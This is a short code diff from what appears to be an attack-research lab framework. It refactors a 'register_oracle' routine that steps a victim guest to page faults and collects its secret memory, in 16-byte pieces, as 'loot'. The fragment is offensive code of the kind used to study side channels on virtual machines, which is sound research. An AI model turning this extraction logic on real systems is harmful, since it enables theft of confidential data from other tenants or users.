@@ -5,7 +5,7 @@ from __future__ import annotations
 import struct
 from typing import Final
 
-from cbit.attacks.experiments.correspondent import correspondent
+from cbit.attacks.experiments.correspondent import correspondent, places
 from cbit.attacks.lab.attack import attack
 from cbit.attacks.lab.guest import HLT, PAGE_FAULT
 from cbit.attacks.lab.hands import Hands
@@ -64,7 +64,7 @@ def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
         hands.victim.until(PAGE_FAULT)
         return struct.pack("<2Q", registers["rax"], registers["rcx"])
 
-    pieces = range(facts.number("secrets_at"), facts.number("secrets_at") + facts.number("secrets_size"), 16)
+    pieces = places(facts, 16)
     loot = b"".join(map(loaded, pieces))
     log.step(f"{len(pieces)} exits, two loads of the victim's own before each", loot)
     registers["rip"], registers["rdi"], registers["rcx"] = store, RESULT, 4
